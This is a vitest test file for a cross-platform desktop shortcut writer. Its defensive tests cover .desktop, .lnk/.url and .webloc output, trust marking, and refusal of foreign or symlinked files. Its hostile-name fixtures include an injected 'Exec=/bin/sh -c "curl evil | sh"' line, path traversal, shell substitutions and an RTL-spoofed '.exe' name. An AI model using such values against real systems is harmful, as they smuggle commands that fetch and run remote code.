import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { UserFacingError } from '../../main/core/platform/errors';
import { markDesktopFileTrusted } from '../../main/core/launch/gio-trust';
import { ShortcutWriter, type ShortcutLink } from '../../main/core/launch/shortcut-writer';

// The shortcut writer against a real folder, with each format read back the way its OS would: the
// .desktop files by freedesktop.org's own validator (Debian's desktop-file-utils), the .url as INI, the
// .webloc as a property list. Windows' .lnk writer is Electron's, injected; here it is a recording fake.
const TENANT = '72f988bf-86f1-41af-91ab-2d7cd011db47';
const OTHER = '0b1f1e2d-3c4b-4a59-8687-9a0b1c2d3e4f';
// `&from=shortcut` is not in canonical links (deepLinkFor); it is here so the formats' escaping of `&` is exercised.
const link = (tenant: string) => `switchboard://launch/${tenant}?target=securityCopilot&from=shortcut`;
const LINUX_EXEC = '/opt/MSSP Switchboard/mssp-switchboard';
const WINDOWS_EXEC = 'C:\\Users\\Ana\\AppData\\Local\\Programs\\MSSP Switchboard\\MSSP Switchboard.exe';

const HOSTILE_NAMES = [
  'Contoso Ltd',
  '../../etc/passwd',
  'CON',
  'Fabrikam "Security" $HOME `id` %f \\ ; & | < >',
  'Line\nExec=/bin/sh -c "curl evil | sh"',
  'Invoice\u202Egpj.exe',
  'Contoso 🛡️👩🏽‍💻 Ünïcödé',
  'x'.repeat(300),
  '....',
];

let dir: string;

beforeAll(() => {
  const probe = spawnSync('desktop-file-validate', ['--help'], { encoding: 'utf8' });
  if (probe.error !== undefined) {
    throw new Error(
      'desktop-file-validate is not installed, and the shortcut tests need it to check the .desktop files. ' +
        'Install it with `sudo apt-get install -y desktop-file-utils` (.ci/run installs it on CI).',
    );
  }
});

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sb-shortcuts-'));
});

afterEach(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

function validate(file: string): { status: number | null; output: string } {
  const result = spawnSync('desktop-file-validate', [file], { encoding: 'utf8' });
  return { status: result.status, output: `${result.stdout}${result.stderr}` };
}

/** The value of `key` in `[section]` of an INI file (the .url format). */
function iniValue(content: string, section: string, key: string): string | undefined {
  let current = '';
  for (const line of content.split(/\r\n/)) {
    const header = /^\[(.+)\]$/.exec(line);
    if (header) current = header[1]!;
    else if (current === section && line.startsWith(`${key}=`)) return line.slice(key.length + 1);
  }
  return undefined;
}

/** The string values of a plist's top-level dict, XML entities decoded. */
function plistStrings(content: string): Map<string, string> {
  expect(content).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<!DOCTYPE plist /);
  const dict = /<plist version="1\.0">\s*<dict>([\s\S]*)<\/dict>\s*<\/plist>\s*$/.exec(content);
  expect(dict).not.toBeNull();
  const decode = (s: string) =>
    s
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, '&');
  const entries = [...dict![1]!.matchAll(/<key>([^<]*)<\/key>\s*<string>([^<]*)<\/string>/g)];
  // Nothing in the dict but key/string pairs, so no stray markup slipped in.
  expect(dict![1]!.replace(/<key>[^<]*<\/key>\s*<string>[^<]*<\/string>/g, '').trim()).toBe('');
  return new Map(entries.map((m) => [decode(m[1]!), decode(m[2]!)]));
}

describe('on Linux', () => {
  const writer = () => new ShortcutWriter({ directory: dir, platform: 'linux', executablePath: LINUX_EXEC });

  it.each(HOSTILE_NAMES)(
    'writes an executable .desktop file that desktop-file-validate accepts for %j',
    async (name) => {
      const written = await writer().create({ name, tenantId: TENANT }, link(TENANT));
      expect(written).toHaveLength(1);
      const file = written[0]!;
      expect(path.dirname(file)).toBe(dir);
      expect(file.endsWith('.desktop')).toBe(true);
      expect(fs.statSync(file).mode & 0o777).toBe(0o755);
      const { status, output } = validate(file);
      expect(output).toBe('');
      expect(status).toBe(0);
      const content = fs.readFileSync(file, 'utf8');
      expect(content.match(/^Exec=/gm)).toHaveLength(1);
      expect(content).toContain(`"${link(TENANT)}"`);
      expect(fs.readdirSync(dir)).toEqual([path.basename(file)]);
    },
  );

  it.each(['/home/o\'neil/"quoted" $HOME `id`/back\\slash/app', '/opt/100%/mssp-switchboard'])(
    'quotes the executable path %j so the validator accepts it',
    async (exec) => {
      const w = new ShortcutWriter({ directory: dir, platform: 'linux', executablePath: exec });
      const [file] = await w.create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
      expect(validate(file!)).toEqual({ status: 0, output: '' });
    },
  );

  it('the validator does fail a broken desktop entry (the check above can fail)', () => {
    const broken = path.join(dir, 'broken.desktop');
    fs.writeFileSync(broken, '[Desktop Entry]\nType=Application\nName=X\nExec="unterminated\n');
    expect(validate(broken).status).not.toBe(0);
  });

  it('marks the written .desktop file trusted for GNOME, and writes it even when that cannot be done', async () => {
    const seen: Array<{ file: string; mode: number; content: string }> = [];
    const marking = new ShortcutWriter({
      directory: dir,
      platform: 'linux',
      executablePath: LINUX_EXEC,
      markTrusted: async (file) => {
        seen.push({ file, mode: fs.statSync(file).mode & 0o777, content: fs.readFileSync(file, 'utf8') });
      },
    });
    const [file] = await marking.create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
    // The final file, already executable and complete (never the temporary one).
    expect(seen).toEqual([{ file, mode: 0o755, content: fs.readFileSync(file!, 'utf8') }]);

    const failing = new ShortcutWriter({
      directory: dir,
      platform: 'linux',
      executablePath: LINUX_EXEC,
      markTrusted: () => Promise.reject(new Error('no GVfs metadata service')),
    });
    const [again] = await failing.create({ name: 'Fabrikam', tenantId: OTHER }, link(OTHER));
    expect(validate(again!)).toEqual({ status: 0, output: '' });
  });

  it('asks gio to set metadata::trusted on the file, and reports whether it could', async () => {
    // A stand-in for gio at the OS edge: it records its arguments, and fails when told to.
    const bin = fs.mkdtempSync(path.join(os.tmpdir(), 'sb-gio-'));
    try {
      const record = path.join(bin, 'args');
      const fakeGio = path.join(bin, 'gio');
      fs.writeFileSync(
        fakeGio,
        `#!/bin/sh\nprintf '%s\\n' "$@" > '${record}'\n[ -z "$GIO_FAIL" ] || { echo 'gio: Setting attribute metadata::trusted not supported' >&2; exit 1; }\n`,
        { mode: 0o755 },
      );
      const file = path.join(dir, 'Contoso (72f988bf).desktop');
      expect(await markDesktopFileTrusted(file, fakeGio)).toBe(true);
      expect(fs.readFileSync(record, 'utf8').split('\n').slice(0, 4)).toEqual([
        'set',
        file,
        'metadata::trusted',
        'true',
      ]);
      process.env.GIO_FAIL = '1';
      try {
        expect(await markDesktopFileTrusted(file, fakeGio)).toBe(false);
      } finally {
        delete process.env.GIO_FAIL;
      }
      expect(await markDesktopFileTrusted(file, path.join(bin, 'no-such-gio'))).toBe(false);
    } finally {
      fs.rmSync(bin, { recursive: true, force: true });
    }
  });

  it('finds, replaces and removes only its own shortcuts', async () => {
    const w = writer();
    const [contoso] = await w.create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
    const [other] = await w.create({ name: 'Contoso', tenantId: OTHER }, link(OTHER));
    const firefox = path.join(dir, 'firefox.desktop');
    fs.writeFileSync(firefox, '[Desktop Entry]\nType=Application\nName=Firefox\nExec=firefox %u\n');
    const notes = path.join(dir, `notes ${TENANT}.txt`);
    fs.writeFileSync(notes, link(TENANT));

    expect(await w.existing(TENANT)).toEqual([contoso]);
    // The customer was renamed: the new shortcut replaces the old one.
    const [renamed] = await w.create({ name: 'Contoso Europe', tenantId: TENANT }, link(TENANT));
    expect(fs.existsSync(contoso!)).toBe(false);
    expect(await w.existing(TENANT.toUpperCase())).toEqual([renamed]);
    // The user renamed the file: it is still found by its content.
    const moved = path.join(dir, 'My Contoso.desktop');
    fs.renameSync(renamed!, moved);
    expect(await w.existing(TENANT)).toEqual([moved]);

    expect(await w.remove(TENANT)).toEqual([moved]);
    expect(fs.readdirSync(dir).sort()).toEqual(
      [path.basename(other!), 'firefox.desktop', path.basename(notes)].sort(),
    );
    expect(await w.remove(TENANT)).toEqual([]);
  });

  it('never overwrites a file Switchboard did not write', async () => {
    const mine = path.join(dir, 'Contoso (72f988bf).desktop');
    const theirs = '[Desktop Entry]\nType=Application\nName=Contoso VPN\nExec=/usr/bin/vpn\n';
    fs.writeFileSync(mine, theirs);
    const error = await writer()
      .create({ name: 'Contoso', tenantId: TENANT }, link(TENANT))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserFacingError);
    expect((error as UserFacingError).code).toBe('conflict');
    expect((error as UserFacingError).message).toMatch(
      /"Contoso \(72f988bf\)\.desktop".*did not write.*Rename or move it/,
    );
    expect(fs.readFileSync(mine, 'utf8')).toBe(theirs);
    expect(fs.readdirSync(dir)).toEqual([path.basename(mine)]);
    expect(await writer().remove(TENANT)).toEqual([]);
    expect(fs.existsSync(mine)).toBe(true);
  });

  it('does not write through a symbolic link', async () => {
    const target = path.join(dir, 'elsewhere.txt');
    fs.writeFileSync(target, 'keep');
    fs.symlinkSync(target, path.join(dir, 'Contoso (72f988bf).desktop'));
    await expect(writer().create({ name: 'Contoso', tenantId: TENANT }, link(TENANT))).rejects.toMatchObject({
      code: 'conflict',
    });
    expect(fs.readFileSync(target, 'utf8')).toBe('keep');
  });

  it('refuses a link for another tenant, a bad tenant ID, a bad link and a missing desktop', async () => {
    const w = writer();
    await expect(w.create({ name: 'Contoso', tenantId: TENANT }, link(OTHER))).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/another tenant than Contoso/),
    });
    await expect(w.create({ name: 'Contoso', tenantId: 'contoso.com' }, link(TENANT))).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/looks like a domain name/),
    });
    await expect(
      w.create({ name: 'Contoso', tenantId: TENANT }, 'https://evil.example/'),
    ).rejects.toMatchObject({
      code: 'invalid_input',
    });
    await expect(w.existing('../..')).rejects.toBeInstanceOf(UserFacingError);
    expect(fs.readdirSync(dir)).toEqual([]);
    const gone = new ShortcutWriter({
      directory: path.join(dir, 'missing'),
      platform: 'linux',
      executablePath: LINUX_EXEC,
    });
    await expect(gone.create({ name: 'Contoso', tenantId: TENANT }, link(TENANT))).rejects.toMatchObject({
      code: 'unavailable',
      message: expect.stringMatching(/does not exist/),
    });
    expect(await gone.existing(TENANT)).toEqual([]);
  });

  // Root writes anywhere, so there is nothing to observe when the tests run as root.
  it.skipIf(process.getuid?.() === 0)(
    'reports a desktop it may not write to and leaves no temporary file',
    async () => {
      fs.chmodSync(dir, 0o555);
      try {
        await expect(
          writer().create({ name: 'Contoso', tenantId: TENANT }, link(TENANT)),
        ).rejects.toMatchObject({
          code: 'unavailable',
          message: expect.stringMatching(/permission denied/),
        });
      } finally {
        fs.chmodSync(dir, 0o755);
      }
      expect(fs.readdirSync(dir)).toEqual([]);
    },
  );
});

describe('on Windows', () => {
  function fakeShell(result = true) {
    const calls: Array<{ path: string; link: ShortcutLink }> = [];
    const writeShortcutLink = (file: string, shortcut: ShortcutLink) => {
      calls.push({ path: file, link: shortcut });
      if (!result) return false;
      // Like a real .lnk, the arguments and description are kept as UTF-16 text among binary fields.
      fs.writeFileSync(
        file,
        Buffer.concat([
          Buffer.from([0x4c, 0, 0, 0, 1]),
          Buffer.from(`${shortcut.description}\0${shortcut.args}`, 'utf16le'),
        ]),
      );
      return true;
    };
    return { calls, writeShortcutLink };
  }
  const writer = (shell = fakeShell()) =>
    new ShortcutWriter({
      directory: dir,
      platform: 'win32',
      executablePath: WINDOWS_EXEC,
      writeShortcutLink: shell.writeShortcutLink,
    });

  it('writes a .lnk through the shell and a .url that round-trips the deep link', async () => {
    const shell = fakeShell();
    const written = await writer(shell).create({ name: 'Contoso\u202E Ltd', tenantId: TENANT }, link(TENANT));
    const lnk = path.join(dir, 'Contoso Ltd (72f988bf).lnk');
    const url = path.join(dir, 'Contoso Ltd (72f988bf).url');
    expect(written).toEqual([lnk, url]);
    expect(shell.calls).toHaveLength(1);
    expect(shell.calls[0]!.link).toEqual({
      target: WINDOWS_EXEC,
      args: link(TENANT),
      description: 'Security Copilot for Contoso Ltd, through MSSP Switchboard',
      icon: WINDOWS_EXEC,
      iconIndex: 0,
    });
    // Written under a temporary name, then renamed into place.
    expect(shell.calls[0]!.path).not.toBe(lnk);
    expect(path.basename(shell.calls[0]!.path)).toMatch(/^\.switchboard-[0-9a-f]+\.tmp\.lnk$/);

    const content = fs.readFileSync(url, 'utf8');
    expect(iniValue(content, 'InternetShortcut', 'URL')).toBe(link(TENANT));
    expect(iniValue(content, 'InternetShortcut', 'IconFile')).toBe(WINDOWS_EXEC);
    expect(content.split('\r\n')[0]).toBe('[InternetShortcut]');

    expect(await writer().existing(TENANT)).toEqual([lnk, url]);
    expect(await writer().existing(OTHER)).toEqual([]);
  });

  it('reads .lnk files back through readShortcutLink when the shell offers it', async () => {
    await writer().create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
    const reader = new ShortcutWriter({
      directory: dir,
      platform: 'win32',
      executablePath: WINDOWS_EXEC,
      writeShortcutLink: fakeShell().writeShortcutLink,
      readShortcutLink: (file) => {
        if (!file.endsWith('.lnk')) throw new Error('not a shortcut');
        return { target: WINDOWS_EXEC, args: link(TENANT), description: 'through MSSP Switchboard' };
      },
    });
    expect((await reader.existing(TENANT)).map((f) => path.extname(f))).toEqual(['.lnk', '.url']);
  });

  it('removes its .lnk and .url but not a user shortcut or another tenant', async () => {
    const w = writer();
    const mine = await w.create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
    const others = await w.create({ name: 'Fabrikam', tenantId: OTHER }, link(OTHER));
    fs.writeFileSync(path.join(dir, 'Excel.lnk'), Buffer.from('C:\\Program Files\\Excel.exe', 'utf16le'));
    fs.writeFileSync(path.join(dir, 'Bank.url'), '[InternetShortcut]\r\nURL=https://bank.example/\r\n');
    expect(await w.remove(TENANT)).toEqual(mine);
    expect(fs.readdirSync(dir).sort()).toEqual(
      ['Bank.url', 'Excel.lnk', ...others.map((f) => path.basename(f))].sort(),
    );
  });

  it('writes nothing when the shell refuses the .lnk', async () => {
    await expect(
      writer(fakeShell(false)).create({ name: 'Contoso', tenantId: TENANT }, link(TENANT)),
    ).rejects.toMatchObject({
      code: 'unavailable',
      message: expect.stringMatching(/Windows did not write the shortcut/),
    });
    expect(fs.readdirSync(dir)).toEqual([]);
  });

  it('needs the shell to write .lnk files', () => {
    expect(
      () => new ShortcutWriter({ directory: dir, platform: 'win32', executablePath: WINDOWS_EXEC }),
    ).toThrow(/writeShortcutLink/);
  });
});

describe('on macOS', () => {
  const writer = () =>
    new ShortcutWriter({
      directory: dir,
      platform: 'darwin',
      executablePath: '/Applications/MSSP Switchboard.app/Contents/MacOS/MSSP Switchboard',
    });

  it('writes a .webloc whose URL round-trips the deep link', async () => {
    const written = await writer().create({ name: 'Contoso & Sons <EU>', tenantId: TENANT }, link(TENANT));
    expect(written).toEqual([path.join(dir, 'Contoso & Sons EU (72f988bf).webloc')]);
    const content = fs.readFileSync(written[0]!, 'utf8');
    expect(content).toContain('&amp;from=shortcut');
    const plist = plistStrings(content);
    expect(plist.get('URL')).toBe(link(TENANT));
    expect(plist.get('X-Switchboard-TenantId')).toBe(TENANT);
    expect(fs.statSync(written[0]!).mode & 0o777).toBe(0o644);
  });

  it('removes its .webloc but not a bookmark the user saved', async () => {
    const [mine] = await writer().create({ name: 'Contoso', tenantId: TENANT }, link(TENANT));
    const bookmark = path.join(dir, 'Docs.webloc');
    fs.writeFileSync(
      bookmark,
      '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://learn.microsoft.com/</string></dict></plist>',
    );
    expect(await writer().remove(TENANT)).toEqual([mine]);
    expect(fs.readdirSync(dir)).toEqual(['Docs.webloc']);
  });
});
